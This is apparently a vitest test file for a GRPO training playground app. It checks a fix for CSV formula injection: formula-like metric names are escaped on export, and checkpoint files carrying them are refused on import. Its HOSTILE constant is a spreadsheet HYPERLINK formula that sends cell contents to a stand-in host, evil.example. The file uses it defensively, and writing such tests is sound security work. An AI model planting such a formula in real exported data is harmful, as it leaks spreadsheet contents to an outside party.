// Issue 33, item 5: CSV formula injection. Metric names from an imported checkpoint reached the
// runs CSV as header cells such as =HYPERLINK(…). Text cells that begin with = + - @, a tab or a
// carriage return are written with a leading "'" (OWASP), keys and values alike, numbers unchanged;
// and a checkpoint file whose metric names fall outside the metric grammar is refused on import.
import { describe, expect, it } from 'vitest';
import { csvField, runCsv, type LogRow } from '../../src/export/run-log';
import { METRIC_NAME_PATTERN, metricNameProblem } from '../../src/core/metrics-row';
import { encodeCheckpointFile, parseCheckpointFile } from '../../src/storage/transfer';
import { CheckpointImportError } from '../../src/storage/errors';
import { resolveConfig } from '../../src/grpo/config';
import type { LlamaConfig } from '../../src/core/model-config';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")';

describe('runCsv', () => {
  it('neutralises formula cells, keys and values alike, and leaves numbers as numbers', () => {
    const rows = [
      { step: 1, reward: -0.25, [HOSTILE]: 1, '+x': -1e-7, '@y': 2, '-z': 3, '\tt': 4 },
      { step: 2, reward: -Infinity, [HOSTILE]: NaN },
    ] as LogRow[];
    const [header, one, two] = runCsv(rows).split('\n');
    expect(header).toBe(
      `step,reward,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+x,'@y,'-z,'\tt`,
    );
    expect(one).toBe('1,-0.25,1,-1e-7,2,3,4');
    expect(two).toBe('2,-inf,NaN,,,,');
    // A text value (a non-number that came in anyway) is neutralised the same way.
    expect(runCsv([{ step: 1, m: '=1+2' as unknown as number }]).split('\n')[1]).toBe("1,'=1+2");
    expect(['=a', '+a', '-a', '@a', '\ta', '\ra'].map(csvField)).toEqual([
      "'=a",
      "'+a",
      "'-a",
      "'@a",
      "'\ta",
      `"'\ra"`,
    ]);
    expect(csvField('reward')).toBe('reward');
  });
});

describe('metric names on import', () => {
  it('the grammar takes every name the trainers log and refuses formulas and markup', () => {
    for (const ok of [
      'reward',
      'rewards/custom:len-bonus/mean',
      'first_pass/clip_ratio/high_mean',
      'eval_accuracy',
      'completions/mean_terminated_length',
    ])
      expect(metricNameProblem(ok)).toBeNull();
    for (const bad of [HOSTILE, '+1', '-1', '@a', 'Reward', 'a b', '<img>', 'a/', 'a'.repeat(129)])
      expect(metricNameProblem(bad)).toMatch(/^metric name ".*" is not one this app logs/);
    expect(METRIC_NAME_PATTERN.test('rewards/format/std')).toBe(true);
  });

  const modelConfig: LlamaConfig = {
    architecture: 'LlamaForCausalLM',
    hiddenSize: 8,
    intermediateSize: 16,
    numLayers: 1,
    numHeads: 2,
    numKvHeads: 1,
    headDim: 4,
    vocabSize: 11,
    maxPositions: 32,
    ropeTheta: 10000,
    rmsNormEps: 1e-6,
    tieWordEmbeddings: false,
    attentionBias: false,
    bosTokenId: null,
    eosTokenIds: [0],
  };
  const manifest = (metricsSoFar: unknown) => ({
    format: 'grpo-playground-checkpoint',
    schemaVersion: 1,
    exportedAt: '2025-01-01T00:00:00.000Z',
    run: { id: 'r', name: 'r' },
    step: 1,
    optimizerStep: 1,
    createdAt: 0,
    config: resolveConfig({}),
    modelConfig,
    modelIdentity: { name: 'tiny', sha256: 'ab'.repeat(32) },
    referenceIdentity: null,
    tokenizerIdentity: null,
    rng: {},
    metrics: null,
    metricsSoFar,
    safetensorsBytes: 0,
    tensors: [],
  });

  it('a checkpoint file whose history has a formula as a metric name is refused, naming it', async () => {
    const file = encodeCheckpointFile(
      manifest([
        { step: 1, reward: 0.5 },
        { step: 2, [HOSTILE]: 1 },
      ]),
      new Uint8Array(0),
    );
    const parsed = parseCheckpointFile(file, 'evil.grpockpt');
    await expect(parsed).rejects.toThrow(CheckpointImportError);
    await expect(parsed).rejects.toThrow(
      /^evil\.grpockpt: manifest\.metricsSoFar\[1\]: metric name "=HYPERLINK\(.*is not one this app logs/,
    );
  });
});
